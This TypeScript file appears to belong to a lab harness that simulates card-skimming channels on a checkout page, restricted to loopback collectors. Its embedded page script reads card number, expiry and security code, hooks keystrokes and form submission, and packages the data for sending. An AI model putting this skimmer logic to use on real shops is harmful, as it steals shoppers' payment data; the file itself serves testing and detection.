/**
 * A way by which a script in a checkout can send a card number away. Each sends to a name of its own of the
 * collector, so that what was found can be told channel by channel. Loopback only, and nothing is kept there.
 */
import { requireLoopback } from '../loopback/address.ts';

export type LabChannel = {
  /** `image`: it sends to `image-collector.localhost`. */
  readonly name: string;
  readonly how: string;
  /**
   * Runs as a function body when the checkout is opened. It knows `to` (origin), `host` (with its port), `onCard(take)`,
   * which calls `take(n, all)` with the digits and with everything as JSON when the form is sent, `onTyped(take)`, which
   * calls `take(n)` with each sign that is typed, and `quiet(promise)`.
   */
  readonly code: string;
  /** Runs likewise on every other page of the shop. */
  readonly later?: string;
  /** What has to be true to see it: `differential` passes, or that no visit can, and why. */
  readonly seen: 'plain' | 'differential' | { readonly never: string };
  /** It stops the payment: it is visited by itself. */
  readonly alone?: true;
  /** It sends nothing that a server could count: a name that is looked up. */
  readonly silent?: true;
};

const GUARD = String.raw`if(!/^http:\/\/(?:[a-z0-9-]+\.)*localhost:\d+$/.test(to))return;`;

const TOOLS = `
function quiet(promise){promise&&promise.catch&&promise.catch(function(){});}
function read(name){var field=document.querySelector('[autocomplete="'+name+'"]');return field?field.value:'';}
function digits(){return read('cc-number').replace(/\\D/g,'');}
function onTyped(take){var f=document.querySelector('[autocomplete="cc-number"]');f&&f.addEventListener('input',function(){take(digits());});}
function onCard(take){document.addEventListener('submit',function(){
if(digits())take(digits(),JSON.stringify({number:digits(),expiry:read('cc-exp'),code:read('cc-csc')}));},true);}`;

/** @throws NotLoopback */
export const pageCode = (name: string, code: string, collector: string): string => {
  const origin = requireLoopback(collector);
  const own = `${origin.protocol}//${name}-${origin.host}`;
  return `(function(){var to=${JSON.stringify(own)},host=${JSON.stringify(`${name}-${origin.host}`)};${GUARD}${TOOLS}\n${code}\n})();`;
};
